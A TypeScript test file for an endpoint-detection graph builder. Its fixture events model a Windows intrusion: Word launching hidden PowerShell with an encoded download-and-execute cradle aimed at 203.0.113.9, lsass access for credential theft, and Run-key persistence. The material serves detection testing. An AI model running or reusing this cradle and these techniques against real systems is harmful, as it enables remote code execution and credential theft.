import type { EventData, EventType, NormalizedEvent, Platform } from '../contracts/event.ts';
import { FEATURES, type HeteroGraph, NODE_TYPES, RELATIONS, type WindowOf } from '../contracts/graph.ts';
import { idOf } from '../contracts/ids.ts';
import { buildGraph } from './build-graph.ts';
import { addToPane, decodePane, emptyPane, encodePane, type Pane } from './pane.ts';

const END = 1_700_000_100;

function event(platform: Platform, at: number, type: EventType, data: EventData): NormalizedEvent {
  return {
    schema_version: 1,
    event_id: idOf('event', platform, String(at), type, JSON.stringify(data)),
    tenant_id: 'default',
    endpoint_id: 'ws-1',
    hostname: 'ws-1',
    platform,
    source: platform === 'windows' ? 'sysmon' : 'auditd',
    event_type: type,
    timestamp: END - 180 + at,
    ingested_at: END,
    data,
    warnings: [],
  };
}

const windowOf = (platform: Platform): WindowOf => ({
  tenantId: 'default',
  endpointId: 'ws-1',
  hostname: 'ws-1',
  platform,
  start: END - 180,
  end: END,
});

function panesOf(platform: Platform, events: readonly NormalizedEvent[]): Pane[] {
  const panes = Array.from({ length: 6 }, (_, i) => emptyPane(platform, END - 180 + i * 30));
  for (const one of events) {
    const pane = panes[Math.floor((one.timestamp - (END - 180)) / 30)];
    if (pane) addToPane(pane, one);
  }
  return panes;
}

const graphOf = (platform: Platform, events: readonly NormalizedEvent[]): HeteroGraph =>
  buildGraph(windowOf(platform), panesOf(platform, events));

/** Edges as text: `source label -relation-> target label ×count`. */
function told(graph: HeteroGraph): string[] {
  const relations = RELATIONS[graph.window.platform];
  return [...graph.source].map(
    (source, edge) =>
      `${graph.labels[source]} -${relations[graph.relation[edge]!]!.name}-> ${graph.labels[graph.target[edge]!]} ×${graph.count[edge]}`,
  );
}

const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const encoded = Buffer.from(
  "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
  'utf16le',
);
const WINDOWS: readonly NormalizedEvent[] = [
  event('windows', 1, 'process_create', {
    process_guid: '{A1}',
    process_id: 500,
    image: PS,
    command_line: `powershell.exe -nop -w hidden -enc ${encoded.toString('base64')}`,
    integrity_level: 'High',
    user: 'ACME\\bo',
    parent_process_guid: '{A0}',
    parent_process_id: 400,
    parent_image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
  }),
  event('windows', 35, 'network_connect', {
    process_guid: '{A1}',
    process_id: 500,
    image: PS,
    protocol: 'tcp',
    destination_ip: '203.0.113.9',
    destination_port: 80,
    initiated: true,
  }),
  event('windows', 40, 'script_block', { process_id: 500, script_text: 'Get-Process lsass' }),
  event('windows', 41, 'registry_value', {
    process_guid: '{A1}',
    process_id: 500,
    target_object: 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd',
    details: 'C:\\Users\\bo\\AppData\\x.exe',
  }),
  ...[50, 51, 52].map((at) =>
    event('windows', at, 'process_access', {
      process_guid: '{A1}',
      process_id: 500,
      source_image: PS,
      target_process_guid: '{B0}',
      target_process_id: 640,
      target_image: 'C:\\Windows\\System32\\lsass.exe',
      granted_access: '0x1410',
      call_trace: 'ntdll.dll+1|UNKNOWN(0001)',
    }),
  ),
  event('windows', 60, 'file_create', {
    process_guid: '{A1}',
    target_filename: 'C:\\Users\\bo\\AppData\\x.exe',
  }),
  event('windows', 61, 'image_load', {
    process_guid: '{A1}',
    image_loaded: 'C:\\Users\\bo\\AppData\\x.exe',
    signed: false,
  }),
];

describe('buildGraph()', () => {
  test('tells a Windows attack as one graph, its repeated events merged', () => {
    const graph = graphOf('windows', WINDOWS);
    expect(told(graph)).toEqual([
      'WINWORD.EXE (400) -spawned-> powershell.exe (500) ×1',
      `powershell.exe (500) -executed-> ${PS} ×1`,
      "powershell.exe (500) -executed-> IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a') ×1",
      'powershell.exe (500) -connected-to-> 203.0.113.9:80/tcp ×1',
      'powershell.exe (500) -executed-> Get-Process lsass ×1',
      'powershell.exe (500) -set-> hku\\*\\software\\microsoft\\windows ×1',
      'powershell.exe (500) -accessed-> lsass.exe (640) ×3',
      'powershell.exe (500) -wrote-> C:\\Users\\bo\\AppData\\x.exe ×1',
      'powershell.exe (500) -executed-> C:\\Users\\bo\\AppData\\x.exe ×1',
    ]);
    expect(graph.nodesPerType).toEqual([3, 2, 2, 1, 1]);
    expect(graph.eventCount).toBe(WINDOWS.length);
  });

  test('decodePane(encodePane()) builds an equal graph', () => {
    const panes = panesOf('windows', WINDOWS).map((pane) => decodePane(encodePane(pane)));
    expect(buildGraph(windowOf('windows'), panes)).toEqual(graphOf('windows', WINDOWS));
  });
});
